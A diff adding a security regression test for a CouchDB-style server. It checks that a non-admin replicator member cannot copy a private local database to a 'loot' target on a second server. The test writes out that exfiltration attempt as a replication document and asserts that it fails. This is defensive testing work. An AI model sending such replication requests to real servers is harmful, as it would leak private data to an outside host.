@@ -112,3 +112,27 @@ def test_replicator_database_is_for_server_admins(servers):
     anonymous = requests.put(f"http://127.0.0.1:{a.port}/_replicator/x", json={"source": "a", "target": "b"})
     assert anonymous.status_code in (401, 403), anonymous.text
     assert requests.get(f"http://127.0.0.1:{a.port}/_scheduler/docs").status_code == 401
+
+
+def test_replicator_member_cannot_copy_a_private_local_database(servers):
+    """An attack: once `_replicator` lets a user write, that user's document must not use a local
+    endpoint (read as a server admin) to copy a database they cannot read to a URL of their own."""
+    a = servers("a")
+    b = servers("b")
+    secret = Client(a.url, "secret")
+    secret.create()
+    secret.put({"_id": "plans", "x": "private"})
+    wait_for(lambda: requests.get(f"{a.url}/_replicator", timeout=5).status_code == 200, what="_replicator")
+    assert requests.put(f"{a.url}/_users/org.couchdb.user:mallory", timeout=5, json={
+        "name": "mallory", "password": "m", "type": "user", "roles": []}).status_code == 201
+    assert requests.put(f"{a.url}/_replicator/_security", timeout=5, json={
+        "admins": {"names": [], "roles": []}, "members": {"names": ["mallory"], "roles": []}}).status_code == 200
+    assert requests.get(f"http://mallory:m@127.0.0.1:{a.port}/secret/plans", timeout=5).status_code == 403
+    doc = {"source": "secret", "target": f"{b.url}/loot", "create_target": True}
+    r = requests.put(f"http://mallory:m@127.0.0.1:{a.port}/_replicator/steal", json=doc, timeout=5)
+    assert r.status_code == 201, r.text
+    state = wait_for(lambda: (lambda d: d if d.get("_replication_state") else None)(
+        requests.get(f"{a.url}/_replicator/steal", timeout=5).json()), what="a state")
+    assert state["_replication_state"] == "failed", state
+    assert "only server admins" in state["_replication_state_reason"]
+    assert requests.get(f"{b.url}/loot", timeout=5).status_code == 404
